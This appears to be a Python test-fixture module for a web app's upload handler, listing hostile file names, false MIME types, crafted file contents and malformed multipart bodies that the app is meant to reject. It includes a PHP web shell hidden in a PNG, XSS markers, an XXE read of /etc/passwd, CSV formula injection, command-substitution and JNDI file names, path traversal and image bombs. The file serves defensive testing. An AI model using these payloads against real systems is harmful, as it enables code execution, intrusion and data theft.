"""The hostile corpus, third part: uploads (names, declared types, bytes, multipart bodies), data.

Whatever is taken is served as what its bytes are: a picture drawn anew, a PDF or plain text.
"""

import struct
import zlib

_ENTETE_PNG = b"\x89PNG\r\n\x1a\n"


def _morceau(genre: bytes, data: bytes) -> bytes:
    body = genre + data
    return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")


def _png(largeur: int, hauteur: int, *, lignes: int | None = None, suite: bytes = b"") -> bytes:
    """A grey PNG; with `lignes` rows of points only, whatever its head says."""
    head = struct.pack(">IIBBBBB", largeur, hauteur, 8, 0, 0, 0, 0)
    rows = (b"\x00" + b"\x80" * min(largeur, 4000)) * (hauteur if lignes is None else lignes)
    parts = _morceau(b"IHDR", head), suite, _morceau(b"IDAT", zlib.compress(rows))
    return _ENTETE_PNG + b"".join(parts) + _morceau(b"IEND", b"")


PNG = _png(8, 8)
MARQUE = b"<script>alert('mif')</script>"
_PAGE = b"<!doctype html><html><body>" + MARQUE + b"</body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + MARQUE + b"</svg>"

# Names, as they stand in the multipart header; a name never decides anything.
NOMS: tuple[str, ...] = (
    "a.html",
    "a.svg",
    "a.png.html",
    "a.php;.png",
    "a.php%00.png",
    "a.phtml",
    ".htaccess",
    "web.config",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "C:\\Windows\\x.png",
    "file:///etc/passwd",
    "%2e%2e%2fx.png",
    "....//....//x",
    ".",
    "..",
    "...",
    " ",
    "a" * 300 + ".png",
    "é" * 200 + ".png",
    "." * 300,
    "a." + "b" * 300,
    "\u202egnp.exe",
    "a\u0000.png",
    "a\u200b.png",
    "💥.png",
    "مضخة.png",
    "CON",
    "nul.png",
    "a;b.png",
    "a'b.png",
    "a&b<c>.png",
    "=cmd|x.txt",
    "-rf",
    "$(reboot).png",
    "`id`.png",
    "{{7*7}}.png",
    "${jndi:ldap://x}.png",
    "a b\tc.png",
    "a:b.png",
    "a*?.png",
    "sitemap.xml",
    "robots.txt",
)

# What a sender may say that the bytes are; nobody believes it.
TYPES: tuple[str, ...] = (
    "text/html",
    "image/svg+xml",
    "application/xhtml+xml",
    "application/x-php",
    "application/x-msdownload",
    "multipart/form-data",
    "message/rfc822",
    "application/json",
    "text/plain; charset=utf-7",
    "image/png; charset=punycode",
    "",
    "x",
    "a/b/c",
    "é/é",
    "image/png" * 100,
)

# (name, bytes): refused with 422, or taken as what they are.
CONTENUS: tuple[tuple[str, bytes], ...] = (
    ("page.html", _PAGE),
    ("page.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
    ("dessin.svg", _SVG),
    ("dessin.svgz", zlib.compress(_SVG)),
    ("menteur.png", _PAGE),
    ("menteur.pdf", _PAGE),
    ("menteur.jpg", _SVG),
    ("tete.png", _ENTETE_PNG + _PAGE),
    ("tete.jpg", b"\xff\xd8\xff\xe0" + _PAGE),
    ("tete.gif", b"GIF89a" + _PAGE),
    ("tete.webp", b"RIFF\x00\x00\x00\x00WEBP" + _PAGE),
    ("tete.bmp", b"BM" + _PAGE),
    ("polyglotte.png", PNG + _PAGE),
    ("polyglotte2.png", _png(8, 8, suite=_morceau(b"tEXt", b"c\x00" + MARQUE))),
    ("zip.png", PNG + b"PK\x03\x04" + b"\x00" * 40 + b"PK\x05\x06" + b"\x00" * 18),
    ("php.png", PNG + b"<?php system($_GET['c']); ?>"),
    ("bombe.png", _png(60_000, 60_000, lignes=10)),
    ("bombe_plate.png", _png(2**31 - 1, 1, lignes=1)),
    ("vide.png", _png(0, 0, lignes=0)),
    ("courte.png", PNG[:30]),
    ("coupee.png", PNG[:-20]),
    ("crc.png", PNG[:20] + b"\xff" + PNG[21:]),
    ("zlib.png", _ENTETE_PNG + _morceau(b"IHDR", PNG[16:29]) + _morceau(b"IDAT", b"x" * 50)),
    ("texte.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
    ("presque.pdf", b"\n%PDF-1.7"),
    ("page.pdf", b"%PDF-1.4\n" + _PAGE),
    ("programme.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"),
    ("programme", b"\x7fELF\x02\x01\x01" + b"\x00" * 60),
    ("macro.docm", b"PK\x03\x04" + b"\x00" * 60),
    ("ole.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 60),
    ("java.jar", b"PK\x03\x04\x14\x00\x08\x00META-INF/MANIFEST.MF" + b"\x00" * 20),
    ("script.sh", b"#!/bin/sh\nreboot\n"),
    ("xxe.xml", b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>"),
    ("formule.csv", b"=cmd|' /C calc'!A0,1\n"),
    ("page.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _PAGE),
    ("utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("utf16.txt", _PAGE.decode().encode("utf-16")),
    ("bom.txt", b"\xef\xbb\xbf" + _PAGE),
    ("latin.txt", "é".encode("latin-1")),
    ("nul.txt", b"a\x00b"),
    ("echappe.txt", b"\x1b]0;titre\x07\x1b[2J"),
    ("nuls.bin", b"\x00" * 1000),
    ("vide.txt", b""),
    ("espace.txt", b" "),
    ("ligne.txt", b"a" * 200_000),
    ("hta.hta", b"<hta:application>" + MARQUE),
    ("flash.swf", b"CWS\x08\x00\x00\x00\x00"),
    ("icone.ico", b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 30),
    ("tiff.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 30),
    ("cle.pem", b"-----BEGIN PRIVATE KEY-----\n"),
)

# Whole bodies of `multipart/form-data; boundary=b`: 400, 413 or 422, never taken.
MULTIPARTS: tuple[bytes, ...] = (
    b"",
    b"--b",
    b"--b--",
    b"--b\r\n",
    b"--b\r\n\r\n--b--\r\n",
    b"--c\r\nContent-Disposition: form-data; name=file\r\n\r\nx\r\n--c--\r\n",
    b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n",
    b"--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n--b--\r\n",
    b'--b\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="file"; filename=""\r\n\r\nx\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="."\r\n\r\nx\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\n--b--\r\n',
    b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename*=utf-8''%00\r\n\r\nx\r\n--b--",
    b'--b\r\nContent-Disposition: form-data; name="\xff"; filename="a"\r\n\r\nx\r\n--b--\r\n',
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="\xff\xfe"\r\n\r\n\xff\r\n--b--',
    (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!\r\n--b--\r\n"
    ),
    (
        b'--b\r\nContent-Disposition: form-data; name="a"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nAA=A\r\n--b--\r\n"
    ),
    (
        b'--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: text/plain; '
        b"charset=punycode\r\n\r\nx\r\n--b--\r\n"
    ),
    b"--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\n--c--\r\n--b--\r\n",
    b"--b\r\n" + b"X-A: " + b"a" * 70_000 + b"\r\n\r\nx\r\n--b--\r\n",
    b"--b\r\n" + b"X-A: a\r\n" * 5_000 + b"\r\nx\r\n--b--\r\n",
    b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n' * 300 + b"--b--\r\n",
    b'--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n1\r\n' * 30
    + b"--b--\r\n",
    b"\x00" * 1000,
    b"\r\n" * 1000,
    b"--b\r\n" * 2000,
)
